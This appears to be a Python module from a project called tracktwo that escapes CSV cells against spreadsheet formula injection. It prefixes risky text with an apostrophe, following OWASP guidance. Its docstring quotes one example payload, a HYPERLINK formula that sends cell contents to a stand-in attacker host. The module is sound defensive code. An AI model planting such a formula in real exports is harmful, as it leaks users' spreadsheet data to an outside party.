"""The one rule every CSV tracktwo writes follows: no cell a spreadsheet would run as a formula.

A spreadsheet opening a CSV treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some, a tab or carriage return before one) as a formula: a profile named
``=HYPERLINK("http://evil.example/?"&A1,"click")`` would become a live link that sends the
sheet's cells away. As OWASP recommends ("CSV Injection"), such a *text* cell is written with
a leading ``'``, which every spreadsheet shows as text. Decisions:

* Only ``str`` values are touched. ints and floats are written as numbers, so a longitude of
  -89.6 or a Goldstein score of -10.0 stays a number; a *text* cell "-5" is prefixed like any
  other text (OWASP: any cell starting with those characters).
* A text that already starts with ``'`` followed (after any more ``'``) by a trigger gets one
  more ``'``: then :func:`unescape_cell` undoes :func:`safe_cell` exactly for every string,
  and tracktwo's own CSV exports import back unchanged.

This module sits at the bottom (it imports nothing of tracktwo) so the CLI, the bridges and
the web app can all use it.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

__all__ = ["ESCAPE", "FORMULA_STARTS", "needs_escape", "safe_cell", "safe_row", "unescape_cell"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def needs_escape(text: str) -> bool:
    """Whether ``text`` starts, after any leading ``'``, with a formula trigger."""
    return text.lstrip(ESCAPE).startswith(FORMULA_STARTS)


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell: text a spreadsheet would run gets a leading ``'``; numbers,
    None and every other type are returned unchanged."""
    if isinstance(value, str) and needs_escape(value):
        return ESCAPE + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """:func:`safe_cell` on every cell of one row."""
    return [safe_cell(value) for value in values]


def unescape_cell(text: str) -> str:
    """The inverse of :func:`safe_cell` on a text cell read from one of tracktwo's CSV files:
    ``'=SUM(A1)`` is ``=SUM(A1)``, ``''=x`` is ``'=x``; ``'quoted`` stays as it is."""
    if text.startswith(ESCAPE) and needs_escape(text[1:]):
        return text[1:]
    return text
